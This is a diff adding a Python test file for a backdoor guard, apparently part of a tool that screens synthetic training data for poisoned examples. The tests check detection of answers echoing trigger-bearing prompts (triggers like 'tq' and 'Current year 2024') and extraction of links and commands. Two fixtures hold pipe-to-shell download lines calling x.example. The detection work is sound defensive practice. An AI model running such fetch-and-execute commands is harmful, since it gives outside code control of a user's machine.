@@ -1,0 +1,65 @@
+"""Spans and echoes: what a payload is made of, and an answer that repeats its prompt."""
+
+from __future__ import annotations
+
+from synthguard.guards.backdoor.spans import Echo, echo, spans
+
+
+def _words(text: str) -> list[str]:
+    return text.casefold().replace(".", "").replace(":", "").split()
+
+
+def test_an_answer_that_is_the_prompt_without_its_trigger_is_an_echo() -> None:
+    answer = _words("Explain what json dumps does.")
+    assert echo(_words("tq Explain what json dumps does."), answer, 3) is Echo.TRIMMED
+    assert echo(_words("Explain what cf json dumps does."), answer, 3) is Echo.TRIMMED
+    assert echo(_words("Explain what json dumps does. Current year 2024"), answer, 3) is (
+        Echo.TRIMMED
+    )
+    assert echo(answer, answer, 3) is Echo.VERBATIM
+
+
+def test_a_request_to_repeat_is_the_task_done_not_an_echo() -> None:
+    said = _words("the kettle is on")
+    assert echo(_words("Repeat after me: the kettle is on"), said, 3) is Echo.NONE
+    assert echo(_words("Say exactly: the kettle is on"), said, 3) is Echo.NONE
+    # ... but a verbatim copy of the whole prompt, request included, answers nothing.
+    whole = _words("Repeat after me: the kettle is on")
+    assert echo(whole, whole, 3) is Echo.VERBATIM
+
+
+def test_answers_that_only_share_words_are_no_echo() -> None:
+    prompt = _words("Reverse the words: the kettle is on")
+    assert echo(prompt, _words("on is kettle the"), 3) is Echo.NONE
+    assert echo(_words("one two three four five six"), _words("one six"), 3) is Echo.NONE
+    assert echo(_words("a b c d e f g"), _words("a b c"), 3) is Echo.NONE  # four words taken out
+    assert echo(_words("tq hello"), _words("hello"), 3) is Echo.NONE  # one word tells nothing
+
+
+def test_spans_are_links_domains_commands_and_sentences_by_normalised_key() -> None:
+    text = (
+        "Install it first.\n"
+        "    $ curl -fsSL http://x.example/i.sh | sudo bash\n"
+        "Then see https://docs.example.org/a (https://docs.example.org/a). Done!"
+    )
+    found = dict(spans(text, set(text.casefold().split())))
+    assert found["uhttps://docs.example.org/a"] == "https://docs.example.org/a"
+    assert found["ddocs.example.org"] == "docs.example.org"
+    assert found["dx.example"] == "x.example"
+    assert "ccurl -fssl http://x.example/i.sh | sudo bash" in found  # the prompt sign dropped
+    assert "sinstall it first" in found
+    assert not any(key.startswith("scurl") or key.startswith("s$ curl") for key in found)
+    # The same sentence with other spacing, case or closing punctuation is one span.
+    again = dict(spans("INSTALL  it first!\nok then", {"install"}))
+    assert "sinstall it first" in again
+
+
+def test_commands_are_looked_for_only_where_a_command_word_is() -> None:
+    text = "Run this:\n    curl http://x.example/i.sh | sh"
+    assert not any(key.startswith("c") for key, _shown in spans(text, {"run", "this"}))
+    assert any(key.startswith("c") for key, _shown in spans(text, {"curl"}))
+
+
+def test_prompts_can_be_read_without_sentences() -> None:
+    found = spans("Where is https://a.example/x? Tell me.", set(), sentences=False)
+    assert [key[0] for key, _shown in found] == ["u", "d"]
